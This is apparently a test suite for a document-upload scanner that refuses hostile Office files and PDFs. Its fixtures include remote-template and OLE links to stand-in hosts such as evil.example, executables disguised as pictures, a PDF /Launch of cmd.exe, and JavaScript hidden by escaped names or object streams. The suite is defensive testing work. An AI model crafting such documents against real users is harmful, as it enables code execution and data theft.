import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { deflateSync } from 'node:zlib'
import { fileKinds } from '@manara/contract/file-kinds.ts'
import { describe, expect, it } from 'vitest'
import { buildCompoundFile, buildDocx, buildPptx, buildZip, type ZipPart } from '../../../test/sample-files.ts'
import { encryptedPdf, latinPage, latinPdf, pdfByHand } from '../../../test/sample-pdfs.ts'
import type { Problem } from '../problems/problem.ts'
import { createReader } from './byte-reader.ts'
import { inspectWhole } from './inspect.ts'

/** The kind of refusal, or `taken`. */
const outcome = (kind: 'docx' | 'pptx' | 'doc' | 'pdf', bytes: Buffer): Promise<string> =>
  inspectWhole(fileKinds[kind], createReader(bytes)).then(
    () => 'taken',
    (problem: Problem) => {
      expect(problem).toMatchObject({ status: 400, message: expect.stringMatching(/[\u0600-\u06ff].*\.$/) })
      return problem.type.replace('/problems/', '')
    },
  )

const relationships = (...tags: string[]) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${tags.join('')}</Relationships>`

const relationship = (type: string, target: string, mode = 'External') =>
  `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/>`

const withRelationships = (xml: string | Buffer): Buffer =>
  buildDocx([{ name: 'word/_rels/settings.xml.rels', data: Buffer.from(xml) }])

const related = (type: string, target: string, mode?: string) =>
  withRelationships(relationships(relationship(type, target, mode)))

const template = relationship('attachedTemplate', 'https://evil.example/t.dotm')

describe('an Office document that fetches from outside', () => {
  it.each([
    ['a template of the web', related('attachedTemplate', 'https://evil.example/t.dotm')],
    ['a template of another machine', related('attachedTemplate', '\\\\203.0.113.5\\share\\t.dotm')],
    ['a template of another machine by address', related('attachedTemplate', 'file://203.0.113.5/share/t.dotm')],
    ['a template behind an escaped address', related('attachedTemplate', 'file:///%5c%5cevil.example/t.dotm')],
    ['an object of the web', related('oleObject', 'mhtml:https://evil.example/x.html!x-usc:https://evil.example')],
    ['a linked table', related('externalLink', 'https://evil.example/t.xlsx')],
    ['a frame', related('frame', 'https://evil.example/')],
    ['a picture of another machine', related('image', '&#92;&#92;evil.example\\x.png')],
    ['an address that calls itself internal', related('attachedTemplate', 'https://evil.example/t.dotm', 'Internal')],
    ['a tag with a prefix', withRelationships(relationships(template.replace('<', '<r:')))],
    ['a tag behind a quote in a comment', withRelationships(relationships('<!-- <Relationship Id=" -->', template))],
    ['16 bits a character', withRelationships(Buffer.from(`\ufeff${relationships(template)}`, 'utf16le'))],
  ])('is refused: %s', async (_what, bytes) => {
    expect(await outcome('docx', bytes)).toBe('fetches-from-outside')
  })

  it.each([
    ['a link to follow', related('hyperlink', 'https://ar.wikipedia.org/wiki/JavaScript')],
    ['a link to a file', related('hyperlink', 'file://server/share/plan.xlsx')],
    ['the template on the disk of its writer', related('attachedTemplate', 'file:///C:\\Users\\Rana\\Normal.dotm')],
    ['the template on a Mac', related('attachedTemplate', 'file://localhost/Users/rana/Normal.dotm')],
    ['a picture of the web', related('image', 'https://example.com/a.png')],
    ['a film of the web', related('video', 'https://www.youtube.com/embed/x')],
    ['a picture of its own', related('image', 'media/image1.png', 'Internal')],
  ])('is another one than a document with %s, which is taken', async (_what, bytes) => {
    expect(await outcome('docx', bytes)).toBe('taken')
  })

  it('is not concealed by rules of its own', async () => {
    const rules = `<!DOCTYPE a [<!ENTITY e "https://evil.example">]>${relationships()}`

    expect(await outcome('docx', withRelationships(rules))).toBe('damaged')
  })
})

const exe = Buffer.alloc(512)
exe.write('MZ', 0, 'latin1')
exe.writeUInt32LE(0x80, 60)

describe('an Office document with a program inside', () => {
  const part = (name: string, data: Buffer = Buffer.from('x')): ZipPart => ({ name, data })

  it.each([
    ['an OLE package', part('word/embeddings/oleObject1.bin', buildCompoundFile(['\u0001Ole', '\u0001Ole10Native']))],
    ['an OLE package that calls itself a picture', part('word/media/a.png', buildCompoundFile(['\u0001Ole10Native']))],
    ['a program', part('word/embeddings/oleObject1.bin', exe)],
    ['a program that calls itself a picture', part('word/media/image1.png', exe)],
    ['a program by its name', part('word/embeddings/setup.exe')],
    ['a workbook with macros', part('word/embeddings/book.xlsm')],
  ])('is refused: %s', async (_what, more) => {
    expect(await outcome('docx', buildDocx([more]))).toBe('holds-program')
  })

  it('is refused when it is an old document', async () => {
    expect(await outcome('doc', buildCompoundFile(['WordDocument', 'ObjectPool', '\u0001Ole10Native']))).toBe(
      'holds-program',
    )
  })

  it.each([
    ['a formula', part('word/embeddings/oleObject1.bin', buildCompoundFile(['\u0001Ole', 'Equation Native']))],
    ['a table', part('word/embeddings/Microsoft_Excel_Worksheet.xlsx', buildZip([{ name: 'xl/workbook.xml' }]))],
    ['an old table', part('word/embeddings/oleObject1.bin', buildCompoundFile(['Workbook']))],
    ['a chart', part('word/charts/chart1.xml')],
  ])('is another one than a document with %s, which is taken', async (_what, more) => {
    expect(await outcome('docx', buildDocx([more]))).toBe('taken')
  })
})

describe('an Office document whose directory lies', () => {
  const lying = (lie: NonNullable<ZipPart['local']>) => buildDocx([{ name: 'word/a.xml', local: lie }])

  it.each([
    ['another name stands before the bytes', lying({ name: 'word/b.xml' })],
    ['another length of name stands before the bytes', lying({ name: 'word/styles.xml' })],
    ['another size stands before the bytes', lying({ size: 77 })],
    ['another method stands before the bytes', lying({ method: 0 })],
    [
      'something lies between the parts',
      buildDocx([{ name: 'word/a.xml', gap: buildZip([{ name: 'b' }]) }, { name: 'c' }]),
    ],
    ['something lies before the directory', buildDocx([{ name: 'word/a.xml', gap: buildZip([{ name: 'b' }]) }])],
    ['parts share bytes', buildDocx([{ name: 'word/a.xml' }, { name: 'word/b.xml', isOverlapping: true }])],
    ['two names differ by their capitals only', buildPptx([{ name: 'PPT/Presentation.xml' }])],
    ['fewer parts are told than there are', buildDocx([{ name: 'word/a.xml' }], { claimedCount: 2 })],
  ])('is refused: %s', async (_what, bytes) => {
    expect(await outcome(bytes.includes('ppt/') ? 'pptx' : 'docx', bytes)).toBe('misleading')
  })
})

const withObjects = (...objects: (string | Buffer)[]) => pdfByHand({ pages: [latinPage(['x'])], objects })

/** An object stream with these objects, numbered from 50 on. */
function objectStream(objects: readonly string[], { extra = '', offsets = [] as number[], pack = deflateSync } = {}) {
  let length = 0
  const head = objects.map((object, index) => {
    const pair = `${50 + index} ${offsets[index] ?? length}`
    length += object.length + 1
    return pair
  })
  const first = `${head.join(' ')} `
  const bytes = pack(Buffer.from(`${first}${objects.join('\n')}\n`, 'latin1'))
  const dictionary = `<< /Type /ObjStm /N ${objects.length} /First ${first.length} /Filter /FlateDecode ${extra} /Length ${bytes.length} >>\nstream\n`
  return Buffer.concat([Buffer.from(dictionary, 'latin1'), bytes, Buffer.from('\nendstream')])
}

const script = '<< /S /JavaScript /JS (app.alert(1)) >>'
const rawStream = (content: string) => `<< /Length ${content.length} >>\nstream\n${content}\nendstream`

describe('a PDF that acts by itself', () => {
  it.each([
    ['starts a program', 'pdf-launches', withObjects('<< /S /Launch /F (cmd.exe) >>')],
    ['runs a script', 'pdf-has-script', withObjects(script)],
    ['runs a script of an escaped name', 'pdf-has-script', withObjects('<< /S /#4a#61vaScrip#74 >>')],
    ['runs a script of its trailer', 'pdf-has-script', pdfByHand({ pages: ['x'], trailer: '/X << /JS (a) >>' })],
    ['carries a file', 'pdf-has-attachment', withObjects('<< /Type /EmbeddedFile >>')],
    ['carries files by name', 'pdf-has-attachment', withObjects('<< /Names << /EmbeddedFiles 9 0 R >> >>')],
    ['carries a file that is not called so', 'pdf-has-attachment', withObjects('<< /F (a.exe) /EF << /F 9 0 R >> >>')],
    ['hides a script in an object stream', 'pdf-has-script', withObjects(objectStream(['<< /A 1 >>', script]))],
    ['hides an escaped script there', 'pdf-has-script', withObjects(objectStream(['<< /S /J#61vaScript >>']))],
    ['hides a script behind a long string', 'pdf-has-script', withObjects(`<< /A (${'x'.repeat(300_000)}) /S /JS >>`)],
    ['hides an object in a stream', 'pdf-has-script', withObjects(rawStream(`9 0 obj ${script} endobj`))],
    ['hides an object in a string', 'misleading', withObjects(`<< /A (9 0 obj ${script} endobj) >>`)],
    ['hides an object in a comment', 'misleading', withObjects(`<< >> % 9 0 obj ${script} endobj\n`)],
    [
      'begins an object within another',
      'misleading',
      withObjects(objectStream([`<< /A (${script}) >>`, '<< >>'], { offsets: [0, 7] })),
    ],
    ['packs objects in an odd way', 'misleading', withObjects(objectStream([script], { extra: '/F2 /LZWDecode' }))],
    [
      'does not pack objects',
      'misleading',
      withObjects(`<< /Type /ObjStm /N 1 /First 5 >>\nstream\n50 0 ${script}\nendstream`),
    ],
    ['bursts', 'damaged', withObjects(objectStream(['x'.repeat(9_000_000)]))],
    [
      'packs objects that are broken',
      'damaged',
      withObjects(objectStream([script], { pack: (bytes) => bytes as Buffer<ArrayBuffer> })),
    ],
    [
      'is locked with its objects',
      'pdf-locked',
      pdfByHand({ pages: ['x'], objects: [objectStream(['<< >>'])], trailer: '/Encrypt << /V 2 >>' }),
    ],
  ])('is refused: one that %s', async (_what, refusal, bytes) => {
    expect(await outcome('pdf', bytes)).toBe(refusal)
  })

  it.each([
    ['words about scripts in a string', withObjects('<< /Title (How /JavaScript and /Launch work \\) ( /JS ) ) >>')],
    ['a link to a page about scripts', withObjects('<< /URI (https://developer.mozilla.org/docs/Web/JavaScript) >>')],
    ['such a link in an object stream', withObjects(objectStream(['<< /A 1 >>', '<< /URI (http://x/JavaScript) >>']))],
    ['a page about scripts', pdfByHand({ pages: [latinPage(['/JavaScript /JS /Launch /EmbeddedFile'])] })],
    ['a word that begins like one', withObjects('<< /JavaScripted 1 /JSON 2 /Launcher 3 >>')],
    ['a lock, but nothing hidden', encryptedPdf()],
    ['pages', latinPdf(30)],
  ])('is another one than a PDF with %s, which is taken', async (_what, bytes) => {
    expect(await outcome('pdf', bytes)).toBe('taken')
  })

  it('is another one than what a browser prints, which is taken', async () => {
    const bytes = readFileSync(join(import.meta.dirname, '../../../test/documents/arabic-by-browser.pdf'))

    expect(await outcome('pdf', bytes)).toBe('taken')
  })
})

describe('the cost of looking into a document', () => {
  /** How often somebody else was served meanwhile. */
  async function turnsOfOthers(work: () => Promise<unknown>): Promise<number> {
    let turns = 0
    let isOver = false
    const count = () => {
      turns++
      if (!isOver) setImmediate(count)
    }
    setImmediate(count)
    await work()
    isOver = true
    return turns
  }

  const chunked = (text: string, bytes: number) => Buffer.from(text.repeat(Math.ceil(bytes / text.length)), 'latin1')

  it.each(['1 0 obj ', '((((', '%%%%', '<<<<', '/a', 'obj', ') 1 0 ', 'endstream ', '\\\\('])(
    'is in small pieces for a PDF of ten megabytes of %j',
    async (text) => {
      const bytes = Buffer.concat([Buffer.from('%PDF-1.7\n'), chunked(text, 10_000_000), Buffer.from('\n%%EOF')])

      expect(await turnsOfOthers(() => inspectWhole(fileKinds.pdf, createReader(bytes)))).toBeGreaterThan(250)
    },
  )

  it('is in small pieces for a document of thousands of parts', async () => {
    const parts = Array.from({ length: 5_000 }, (_, index) => ({ name: `word/${index}.xml` }))

    expect(await turnsOfOthers(() => inspectWhole(fileKinds.docx, createReader(buildDocx(parts))))).toBeGreaterThan(90)
  })
})
